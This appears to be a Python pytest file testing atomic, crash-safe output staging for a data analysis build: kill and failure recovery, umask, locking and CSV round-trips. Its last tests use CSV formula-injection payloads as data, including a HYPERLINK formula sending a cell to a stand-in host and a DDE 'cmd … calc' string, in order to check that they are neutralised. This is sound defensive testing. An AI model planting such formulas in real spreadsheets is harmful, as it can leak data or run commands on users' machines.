"""The all-or-nothing output: after a failure, a full disk, a read-only folder or a kill at any
step, the two target folders hold either all the old files or all the new ones, and no temp
file or folder is left behind (after the next build's recovery, for a kill)."""

from __future__ import annotations

import errno
import fcntl
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from analysis import output
from analysis.output import BuildError, csv_safe, csv_unsafe, read_generated_csv, staged_outputs, write_csv

OLD = {"processed": {"chronology.csv": "old\n"}, "figures": {"fig01.csv": "old\n", "fig02.csv": "old\n"}}
NEW = {"processed": {"chronology.csv": "new\n"}, "figures": {"fig01.csv": "new\n", "fig02.csv": "new\n"}}
N_RENAMES = 1 + 3  # the journal, then one rename per file written (three)


def _targets(root: Path) -> list[Path]:
    return [root / "data" / "processed", root / "figures"]


def _make_old(root: Path) -> list[Path]:
    targets = _targets(root)
    for target in targets:
        target.mkdir(parents=True)
        for name, text in OLD[target.name].items():
            (target / name).write_text(text)
    return targets


def _state(root: Path) -> dict[str, dict[str, str]]:
    """The files of the target folders (the staging folder and journal inside them left out)."""
    return {
        t.name: {p.name: p.read_text() for p in sorted(t.iterdir()) if not p.name.startswith(".commit")}
        for t in _targets(root)
    }


def _everything(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


def _stage_new(stage: output.Stage, targets: list[Path]) -> None:
    for target in targets:
        for name, text in NEW[target.name].items():
            (stage.folder(target) / name).write_text(text)


CLEAN = [
    "data",
    "data/processed",
    "data/processed/chronology.csv",
    "figures",
    "figures/fig01.csv",
    "figures/fig02.csv",
]


def test_a_build_replaces_both_folders_and_leaves_nothing_else(tmp_path):
    targets = _make_old(tmp_path)
    with staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    assert _state(tmp_path) == NEW
    assert _everything(tmp_path) == CLEAN


def test_files_the_build_does_not_make_are_kept(tmp_path):
    targets = _make_old(tmp_path)
    (targets[1] / "README.md").write_text("kept\n")
    with staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    assert (targets[1] / "README.md").read_text() == "kept\n"


@pytest.mark.parametrize("mask", [0o022, 0o002, 0o077])
def test_every_new_file_and_folder_gets_the_users_umask(tmp_path, mask):
    targets = _targets(tmp_path)  # a first build: no target folder yet
    old_mask = os.umask(mask)
    try:
        with staged_outputs(*targets) as stage:
            _stage_new(stage, targets)
    finally:
        os.umask(old_mask)
    assert _state(tmp_path) == NEW
    for target in targets:
        assert stat.S_IMODE(target.stat().st_mode) == 0o777 & ~mask
        for path in target.iterdir():
            assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask, path


def test_an_existing_folder_keeps_its_mode_and_everything_the_build_does_not_write(tmp_path):
    """``--out`` may name a folder that holds other things: only the files written change."""
    targets = _make_old(tmp_path)
    figures = targets[1]
    figures.chmod(0o750)
    (figures / "notes").mkdir()
    (figures / "notes" / "draft.txt").write_text("mine\n")
    (figures / ".hidden-settings").write_text("mine\n")
    (figures / "fig99.csv").write_text("not written by this build\n")
    with staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    assert (figures / "notes" / "draft.txt").read_text() == "mine\n"
    assert (figures / ".hidden-settings").read_text() == "mine\n"
    assert (figures / "fig99.csv").read_text() == "not written by this build\n"
    assert (figures / "fig01.csv").read_text() == "new\n"
    assert stat.S_IMODE(figures.stat().st_mode) == 0o750


def test_a_folder_where_a_file_goes_is_refused_before_anything_changes(tmp_path):
    targets = _make_old(tmp_path)
    (targets[1] / "fig01.csv").unlink()
    (targets[1] / "fig01.csv").mkdir()
    with pytest.raises(BuildError, match=r"fig01\.csv is a folder"), staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    assert (targets[0] / "chronology.csv").read_text() == "old\n"
    assert (targets[1] / "fig01.csv").is_dir()
    assert not list(tmp_path.glob(".*"))  # no staging folder or journal left


def test_an_exception_while_staging_changes_nothing(tmp_path):
    targets = _make_old(tmp_path)
    with pytest.raises(RuntimeError), staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
        raise RuntimeError("a figure failed")
    assert _state(tmp_path) == OLD
    assert _everything(tmp_path) == CLEAN


def test_a_full_disk_while_staging_is_a_build_error_and_changes_nothing(tmp_path):
    targets = _make_old(tmp_path)
    with pytest.raises(BuildError, match="No space left"), staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    assert _state(tmp_path) == OLD
    assert _everything(tmp_path) == CLEAN


@pytest.mark.parametrize("failing", range(1, N_RENAMES + 1))
def test_an_oserror_at_any_rename_leaves_all_old_or_all_new(tmp_path, monkeypatch, failing):
    targets = _make_old(tmp_path)
    calls, real = [0], output._rename

    def rename(source, target):
        calls[0] += 1
        if calls[0] == failing:
            raise OSError(errno.EIO, "injected I/O error")
        real(source, target)

    monkeypatch.setattr(output, "_rename", rename)
    with pytest.raises(BuildError), staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    monkeypatch.setattr(output, "_rename", real)
    output.recover(targets)  # what the next build does first
    assert _state(tmp_path) in (OLD, NEW)
    assert _state(tmp_path) == (OLD if failing == 1 else NEW)  # the journal is the commit point
    assert _everything(tmp_path) == CLEAN


KILLER = textwrap.dedent(
    """
    import os, signal, sys
    from pathlib import Path
    from analysis import output

    kill_at, root = int(sys.argv[1]), Path(sys.argv[2])
    targets = [root / "data" / "processed", root / "figures"]
    calls, real = [0], output._rename

    def rename(source, target):
        calls[0] += 1
        if calls[0] == kill_at:
            os.kill(os.getpid(), signal.SIGKILL)
        real(source, target)

    output._rename = rename
    with output.staged_outputs(*targets) as stage:
        for target in targets:
            for name in ("chronology.csv",) if target.name == "processed" else ("fig01.csv", "fig02.csv"):
                (stage.folder(target) / name).write_text("new\\n")
        if kill_at == 0:
            os.kill(os.getpid(), signal.SIGKILL)
    """
)


@pytest.mark.parametrize("kill_at", range(N_RENAMES + 1))
@pytest.mark.slow  # a subprocess per kill point
def test_a_kill_at_any_step_is_all_old_or_all_new_after_recovery(tmp_path, kill_at):
    """kill_at 0: while staging; 1: before the journal; 2-4: while moving the files in."""
    targets = _make_old(tmp_path)
    result = subprocess.run([sys.executable, "-c", KILLER, str(kill_at), str(tmp_path)], check=False)
    assert result.returncode == -signal.SIGKILL
    with staged_outputs(*targets):  # the next build: recovers, then fails before changing anything
        assert _state(tmp_path) == (OLD if kill_at <= 1 else NEW)
        raise_anything = False
        assert not raise_anything
    # that build committed an empty stage: the carried-over files are the recovered ones
    assert _state(tmp_path) == (OLD if kill_at <= 1 else NEW)
    assert _everything(tmp_path) == CLEAN


def test_a_staging_folder_left_by_a_killed_build_is_removed(tmp_path):
    targets = _make_old(tmp_path)
    (targets[1] / ".commit.new").mkdir()
    (targets[1] / ".commit.new" / "fig01.csv").write_text("stale")
    with staged_outputs(*targets) as stage:
        _stage_new(stage, targets)
    assert _everything(tmp_path) == CLEAN
    assert _state(tmp_path) == NEW


def test_nothing_is_written_outside_the_target_folders(tmp_path):
    targets = _make_old(tmp_path)
    (tmp_path / "data").chmod(0o555)  # the folder holding a target may be read-only
    try:
        with staged_outputs(targets[0]) as stage:
            (stage.folder(targets[0]) / "chronology.csv").write_text("new\n")
    finally:
        (tmp_path / "data").chmod(0o755)
    assert _everything(tmp_path) == CLEAN
    assert _state(tmp_path)["processed"] == NEW["processed"]


def test_a_missing_data_commit_is_completed_before_the_data_is_read(tmp_path):
    """A crash after the journal of accept's commit: load() (via finish_commit) moves the rest in."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "claims.csv").write_text("old claims\n")
    (data / "places.csv").write_text("old places\n")
    (data / ".commit.new").mkdir()
    (data / ".commit.new" / "places.csv").write_text("new places\n")
    (data / "claims.csv").write_text("new claims\n")  # renamed in before the crash
    (data / ".commit.journal").write_text(f'["{data}"]')
    output.finish_commit(data)
    assert (data / "claims.csv").read_text() == "new claims\n"
    assert (data / "places.csv").read_text() == "new places\n"
    assert sorted(p.name for p in data.iterdir()) == ["claims.csv", "places.csv"]


def test_a_read_only_target_is_refused_before_anything_is_written(tmp_path):
    targets = _make_old(tmp_path)
    targets[1].chmod(0o555)
    try:
        with pytest.raises(BuildError, match="read-only"), staged_outputs(*targets) as stage:
            _stage_new(stage, targets)
    finally:
        targets[1].chmod(0o755)
    assert _state(tmp_path) == OLD
    assert _everything(tmp_path) == CLEAN


def test_a_second_build_is_refused_while_one_holds_the_lock(tmp_path):
    targets = _make_old(tmp_path)
    fd = os.open(targets[0], os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        with (
            pytest.raises(BuildError, match="another build or data edit is running"),
            staged_outputs(*targets),
        ):
            pass
    finally:
        os.close(fd)
    assert _state(tmp_path) == OLD


SLOW_BUILD = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from analysis import figures

    def slow(data):
        Path(sys.argv[3]).touch()  # the outputs are staged: the build is drawing
        time.sleep(120)

    registry = tuple(figures.FigureSpec(f"fig9{i}", "slow", slow) for i in range(2))
    figures.build_all(Path(sys.argv[1]), Path(sys.argv[2]), registry=registry)
    """
)


def _files(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (hidden staging folders left out) and its bytes."""
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file() and not any(part.startswith(".") for part in p.relative_to(folder).parts)
    }


def _wait_for(condition, seconds: float = 60.0) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.2)
    return False


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
@pytest.mark.slow  # a subprocess loading the data and staging the outputs
def test_killing_a_build_leaves_the_outputs_as_they_were(data_copy, tmp_path, how):
    figures_dir, drawing = tmp_path / "figures", tmp_path / "drawing"
    before = _files(data_copy)
    build = subprocess.Popen(
        [sys.executable, "-c", SLOW_BUILD, str(data_copy), str(figures_dir), str(drawing)]
    )
    try:
        assert _wait_for(drawing.exists), "the build never started drawing"
        os.kill(build.pid, how)
        build.wait(timeout=60)
    finally:
        build.kill()
        build.wait()
    leftovers = [p.name for p in [*data_copy.parent.rglob(".commit*")]]
    if how == signal.SIGTERM:  # a catchable signal: the build removes its own staging folders
        assert leftovers == []
    assert _files(data_copy) == before
    assert not figures_dir.exists() or all(p.name.startswith(".commit") for p in figures_dir.iterdir())


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://x"&A1,"Ramadi")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\tx", "\rx", "'=x"],
)
def test_formula_like_text_is_neutralised_and_round_trips(value):
    assert csv_safe(value).startswith("'")
    assert csv_unsafe(csv_safe(value)) == value


@pytest.mark.parametrize("value", ["-3", "-0.5", "+1", "-1e5", "Ramadi", "Al-Qaim", "", "2017-11-17"])
def test_plain_numbers_and_ordinary_text_are_written_unchanged(value):
    assert csv_safe(value) == value


def test_a_generated_csv_round_trips_every_value(tmp_path):
    table = pd.DataFrame(
        {
            "place": ["=1+2", "Mosul", "@x", "'quoted", "-Ramadi"],
            "gap_days": [-3, 0, 12, -40, 7],
            "offset": [-0.5, 1.25, -2.0, 0.0, 3.5],
            "text_number": ["-3", "4", "-0.5", "+1", "0"],
        }
    )
    path = write_csv(table, tmp_path / "t.csv")
    raw = path.read_text(encoding="utf-8")
    assert "\n'=1+2," in raw and "\n'@x," in raw and "\n-3," not in raw.split("place")[0]
    assert all(not line.startswith(("=", "+", "@")) for line in raw.splitlines())
    back = read_generated_csv(path)
    assert back["place"].tolist() == table["place"].tolist()
    assert back["gap_days"].astype(int).tolist() == [-3, 0, 12, -40, 7]
    assert back["offset"].astype(float).tolist() == [-0.5, 1.25, -2.0, 0.0, 3.5]
    assert back["text_number"].tolist() == ["-3", "4", "-0.5", "+1", "0"]
